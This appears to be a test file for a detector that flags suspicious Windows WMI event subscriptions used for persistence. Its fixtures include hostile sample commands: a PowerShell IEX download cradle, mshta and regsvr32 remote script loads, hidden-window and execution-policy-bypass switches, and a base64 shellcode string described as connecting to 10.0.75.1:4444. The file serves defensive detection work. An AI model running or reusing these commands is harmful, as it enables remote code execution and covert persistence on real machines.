import type { PropertyValue, SubscriptionReport } from "@unbind/model";
import { describe, expect, test } from "vitest";
import { judge } from "../judge.ts";
import { command, encodedCommand, type Sketch, subscriptionOf, USER } from "../subscription.test-support.ts";
import { signals } from "./signals.ts";

const CALM = "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_PrintJob'";
const SHELLCODE = "/OiPAAAAAABoCgBLAWgCABFcieY=";

function reasonsOf(sketch: Sketch, others: Sketch[] = []): Map<string, { weight: number; text: string }> {
  const report = subscriptionOf({
    filter: { query: CALM },
    consumer: command("C:\\Program Files\\Contoso\\a.exe"),
    ...sketch,
  });
  const { verdict } = judge(report, { others: [report, ...others.map(other)] });
  return new Map(verdict.reasons.map(({ id, weight, text }) => [id, { weight, text }]));
}

function other(sketch: Sketch, i: number): SubscriptionReport {
  return { ...subscriptionOf(sketch), id: `sub-000000000000000${i + 1}` };
}

const consumer = (className: string, properties: Record<string, PropertyValue>) => ({
  consumer: { class: className, name: "C", properties },
});
const script = (text: string, engine = "VBScript") =>
  consumer("ActiveScriptEventConsumer", { ScriptingEngine: engine, ScriptText: text });
const run = (template: string, executable: string | null = null): Sketch => ({
  consumer: command(template, executable),
});
const query = (text: string): Sketch => ({ filter: { query: text } });
const encoded = (text: string) => run(`powershell -enc ${encodedCommand(text)}`);

/** By signal: what makes it apply, and what is near and doesn't. */
const cases: Record<string, { hits: Sketch[]; misses: Sketch[] }> = {
  "hidden-code": {
    hits: [
      encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')"),
      encoded("[Reflection.Assembly]::Load($b)"),
      run(`powershell -c "[Convert]::FromBase64String('${SHELLCODE}')"`),
    ],
    misses: [encoded("Get-Process | Out-Null"), run("powershell -c DownloadString('http://192.0.2.10/a')")],
  },
  download: {
    hits: [
      run("mshta http://192.0.2.10/a.hta"),
      run("regsvr32 /s \\\\files.example.net\\share\\a.sct"),
      script('Set x = CreateObject("MSXML2.XMLHTTP")'),
    ],
    misses: [
      script('Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")'),
      run("cmd /c echo x >> c:\\\\temp\\\\log.txt"),
      consumer("NTEventLogEventConsumer", { SourceName: "http://192.0.2.10/" }),
    ],
  },
  "class-property-code": {
    hits: [
      run("powershell -c \"iex ([WmiClass]'root\\default:Win32_TaskService').Properties['funs'].Value\""),
      run('powershell -c "(Get-ItemProperty HKLM:\\Software\\X).y | iex"'),
      script('Execute reg.GetStringValue(&H80000002, "Software\\X", "y", z)'),
      run("powershell -c RacTask"),
    ],
    misses: [
      run("powershell -c \"([wmiclass]'Win32_Process').Create('calc')\""),
      run("powershell -c Get-ItemProperty HKLM:\\Software\\X"),
      script('WScript.Echo item.Properties_.Item("Name").Value'),
    ],
  },
  "quiet-switches": {
    hits: [
      run("powershell -w 1 -c x"),
      run("powershell.exe -Window Hidden"),
      run("pwsh -nop"),
      run("powershell /ep bypass -f x.ps1"),
      run("powershell \u2013e SQBFAFgA"),
      run("-exec bypass", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
      run("cmd /c p^o^w^e^r^shell"),
      run("wscript //B x.vbs"),
    ],
    misses: [run("powershell -NonInteractive -File x.ps1"), run("robocopy -w 1 -e a b"), run("powershell -Command x")],
  },
  "inline-script": {
    hits: [script("x = 1")],
    misses: [consumer("ActiveScriptEventConsumer", { ScriptFilename: "C:\\Program Files\\x.vbs" })],
  },
  "script-capability": {
    hits: [script('CreateObject("WScript.Shell").Run "x"'), script("eval(x)", "JScript")],
    misses: [script("x = 1"), run("cscript WScript.Shell")],
  },
  "writes-code": {
    hits: [
      consumer("LogFileEventConsumer", { Filename: "C:\\inetpub\\wwwroot\\log.txt", Text: "x" }),
      consumer("LogFileEventConsumer", { Filename: "C:\\Logs\\a.aspx", Text: "x" }),
    ],
    misses: [consumer("LogFileEventConsumer", { Filename: "C:\\Logs\\a.log", Text: "x" })],
  },
  "mails-out": {
    hits: [consumer("SMTPEventConsumer", { ToLine: "a@example.net", SMTPServer: "mx.example.net" })],
    misses: [consumer("SMTPEventConsumer", { SMTPServer: "mx.example.net" })],
  },
  interpreter: {
    hits: [
      run("cmd /c x"),
      run('"C:\\Windows\\System32\\WSCRIPT.EXE" x.vbs'),
      run("x", "%ComSpec%"),
      run("C:\\Windows\\System32\\rundll32.exe x.dll,#1"),
    ],
    misses: [
      run("C:\\Windows\\cmdkey.exe"),
      run("C:\\Program Files\\Contoso\\run.exe powershell"),
      script("powershell"),
    ],
  },
  "program-mismatch": {
    hits: [run("/c calc", "C:\\Windows\\System32\\cmd.exe"), run("svchost.exe -k netsvcs", "C:\\Users\\Public\\a.exe")],
    misses: [
      run("cmd /c x", "C:\\Windows\\System32\\cmd.exe"),
      run('"C:\\Program Files\\a\\b.exe" -x', "C:\\Program Files\\a\\b.exe"),
      run("/c calc"),
      run("", "C:\\Windows\\System32\\cmd.exe"),
    ],
  },
  "writable-location": {
    hits: [
      run("C:\\Users\\Public\\a.exe"),
      run("cscript C:\\ProgramData\\x\\a.vbs"),
      run("C:\\a.exe"),
      run("cmd /c %TEMP%\\a.bat"),
      run("wscript C:\\Windows\\Temp\\a.js"),
      run("\\\\files.example.net\\share\\a.exe"),
      run("C:\\Windows\\notes.txt:a.exe"),
      consumer("CommandLineEventConsumer", {
        CommandLineTemplate: "cscript KernCap.vbs",
        WorkingDirectory: "C:\\tools",
      }),
      consumer("ActiveScriptEventConsumer", { ScriptFilename: "C:/Users/Public/a.vbs" }),
    ],
    misses: [
      run("C:\\Windows\\System32\\notepad.exe C:\\Users\\a.txt"),
      run("cscript KernCap.vbs"),
      run("C:\\Program Files\\Contoso\\Temp\\a.exe"),
      consumer("LogFileEventConsumer", { Filename: "C:\\a.bat" }),
    ],
  },
  "trigger-stealth": {
    hits: [
      query("SELECT * FROM Win32_ProcessStartTrace"),
      query("SELECT * FROM __TimerEvent WHERE TimerID = 'T'"),
      query(
        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 8",
      ),
      query(
        "SELECT * FROM __InstanceModificationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
      ),
      query("SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND"),
    ],
    misses: [query(CALM), query("select * from MSFT_SCMEventLogEvent"), { filter: { query: null } }],
  },
  "trigger-anti-analysis": {
    hits: [query("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'Wireshark.exe'")],
    misses: [query("SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'notepad.exe'")],
  },
  "nonstandard-class": {
    hits: [
      consumer("MyConsumer", { CommandLineTemplate: "x" }),
      { providers: [{ Name: "X", CLSID: "{266C72E5-62E8-11D1-AD89-00C04FD8FDFF}" }] },
      { providers: [{ ConsumerClassNames: ["CommandLineEventConsumer"], __NAMESPACE: "root\\cimv2" }] },
    ],
    misses: [
      consumer("COMMANDLINEEVENTCONSUMER", { CommandLineTemplate: "x" }),
      {
        providers: [
          {
            Name: "CommandLineEventConsumer",
            CLSID: "{266c72e5-62e8-11d1-ad89-00c04fd8fdff}",
            namespace: "ROOT\\DEFAULT",
          },
        ],
      },
      {
        providers: [{ __CLASS: "__Win32Provider", Name: "MS_NT_EVENTLOG_EVENT_PROVIDER", __NAMESPACE: "root\\cimv2" }],
      },
      { consumer: { class: "" } },
    ],
  },
  "outside-subscription": {
    hits: [{ namespace: "root\\default" }, { namespace: "ROOT/cimv2" }],
    misses: [{ namespace: "\\\\.\\ROOT\\Subscription" }, { namespace: "root\\default", notes: ["namespace-assumed"] }],
  },
  "new-namespace": {
    hits: [{ namespace: "root\\a\\b" }],
    misses: [{ namespace: "root\\default" }, { namespace: "root\\cimv2\\ms_409" }],
  },
  "provider-dll": {
    hits: [{ providers: [{ dll: "C:\\Users\\Public\\x.dll" }] }],
    misses: [
      { providers: [{ dll: "%SystemRoot%\\system32\\wbem\\wbemcons.dll" }] },
      { providers: [{ dll: "C:/Windows/SysWOW64/wbem/scrcons.exe" }, { dll: "wbemcons.dll" }] },
    ],
  },
  autorecover: {
    hits: [{ sources: ["mof/instance", "wmi-repository"] }, { sources: ["autorecover/list"] }],
    misses: [{ sources: ["mof/instance"] }, { sources: ["wmi-repository"] }],
  },
  "machine-name": {
    hits: [consumer("CommandLineEventConsumer", { CommandLineTemplate: "x", MachineName: "SRV-02" })],
    misses: [
      consumer("CommandLineEventConsumer", { CommandLineTemplate: "x", MachineName: "wkstn-04.contoso.example" }),
      consumer("CommandLineEventConsumer", { CommandLineTemplate: "x", MachineName: "127.0.0.1" }),
      consumer("CommandLineEventConsumer", { CommandLineTemplate: "x", MachineName: null }),
    ],
  },
  orphan: { hits: [{ isBound: false }, { consumer: null }, { filter: null }], misses: [{}] },
  modified: { hits: [{ kinds: ["modified"] }, { notes: ["content-changed"] }], misses: [{ kinds: ["created"] }] },
  "removed-record": {
    hits: [{ state: "recovered", kinds: ["recovered"] }],
    misses: [
      { state: "recovered", kinds: ["recovered"], sources: ["wmi-activity/5861"] },
      { state: "present", kinds: ["recovered"] },
    ],
  },
  "owner-account": {
    hits: [{ owner: USER }, { owner: "S-1-12-1-1-2-3-4" }],
    misses: [
      { owner: "S-1-5-18" },
      { owner: null },
      { owner: USER, consumer: { class: "NTEventLogEventConsumer", creatorSid: USER } },
    ],
  },
  "owner-differs": {
    hits: [{ filter: { query: CALM, creatorSid: USER } }],
    misses: [{ filter: { query: CALM, creatorSid: null } }],
  },
  "name-masquerade": {
    hits: [{ filter: { name: "BVTFilter", query: CALM } }],
    misses: [{ filter: { name: "DVDFilter", query: CALM } }],
  },
  "known-bad-definition": {
    hits: [{ filter: { name: "BotFilter82" }, consumer: { name: "BotConsumer23" } }],
    misses: [{ filter: { name: "BotFilter82" } }],
  },
  "known-bad-name": { hits: [{ filter: { name: "botfilter82" } }], misses: [{ filter: { name: "BotFilter83" } }] },
};

describe.each(Object.entries(cases))("%s", (id, { hits, misses }) => {
  test.each(hits)("applies: %j", (sketch) => {
    const signal = signals.find((one) => one.id === id);
    expect(reasonsOf(sketch).get(id)?.weight).toBe(signal?.weight);
    expect(reasonsOf(sketch).get(id)?.text).not.toMatch(/\{\w+\}/);
  });

  test.each(misses)("doesn't apply: %j", (sketch) => {
    expect([...reasonsOf(sketch).keys()]).not.toContain(id);
  });
});

test("every signal but those of a fleet is tried above", () => {
  const tried = signals.filter(({ group }) => group !== "fleet").map(({ id }) => id);
  expect(Object.keys(cases).sort()).toEqual(tried.sort());
});

describe("signals in words", () => {
  test("shellcode is told with the address that it connects to", () => {
    const { text } =
      reasonsOf(run(`powershell -c "[Convert]::FromBase64String('${SHELLCODE}')"`)).get("hidden-code") ?? {};
    expect(text).toContain("shellcode that connects to 10.0.75.1:4444.");
  });

  test("LemonDuck's marker without a binding weighs more than another orphan", () => {
    const reasons = reasonsOf({ filter: { name: "Blackball", query: CALM }, consumer: null, isBound: false });
    expect(reasons.get("orphan")?.weight).toBe(30);
    expect(reasonsOf({ filter: { name: "Blackball", query: CALM } }).has("orphan")).toBe(false);
  });

  test("another definition under the same names, or a copy in a MOF file, shows across subscriptions", () => {
    const namesake: Sketch = { filter: { query: `${CALM} ` }, consumer: command("C:\\Program Files\\Contoso\\a.exe") };
    expect(reasonsOf({}, [namesake]).has("modified")).toBe(true);
    expect(reasonsOf({}, [{ ...namesake, filter: { query: CALM } }]).has("modified")).toBe(false);
    expect(reasonsOf({}, [{ ...namesake, host: "WKSTN-05" }]).has("modified")).toBe(false);
    expect(reasonsOf({}, [{ ...namesake, sources: ["mof/instance"] }]).get("autorecover")?.text).toContain(
      "OBJECTS.DATA",
    );
  });

  test("a provider's library is taken from the event of its loading, too", () => {
    const report = subscriptionOf({ consumer: command("x.exe") });
    const [first] = report.sightings;
    if (first)
      Object.assign(first, {
        source: "wmi-activity/5857",
        detail: "provider X loaded from C:\\Temp\\x.dll, result 0x80041001",
      });
    const { verdict } = judge(report, { others: [] });
    expect(verdict.reasons.find(({ id }) => id === "provider-dll")?.text).toBe("The provider is C:\\Temp\\x.dll.");
  });

  test("a MOF file's plan is evidence of what it plans, its plan to delete is not", () => {
    const planned = subscriptionOf({
      filter: { query: "SELECT * FROM Win32_ProcessStartTrace" },
      consumer: command("cmd /c x"),
      sources: ["mof/instance"],
      kinds: ["attempted"],
    });
    const sightingsOf = (detail: string) => {
      for (const sighting of planned.sightings) sighting.detail = detail;
      const { reasons } = judge(planned, { others: [] }).verdict;
      return reasons.map(({ id, sightings }) => [id, sightings]);
    };
    expect(sightingsOf("would be created; #pragma autorecover: and again")).toEqual([
      ["interpreter", [1]],
      ["trigger-stealth", [0]],
      ["autorecover", [0, 1, 2]],
    ]);
    expect(sightingsOf("would be deleted; #pragma autorecover: and again")).toEqual([
      ["interpreter", []],
      ["trigger-stealth", []],
    ]);
  });

  test("invisible characters and long values are made plain", () => {
    const reasons = reasonsOf({ namespace: `root\\\u202e${"x".repeat(500)}` });
    expect(reasons.get("outside-subscription")?.text).toMatch(/root\\\\u202ex+\.\.\. \(506 characters\)/);
  });
});
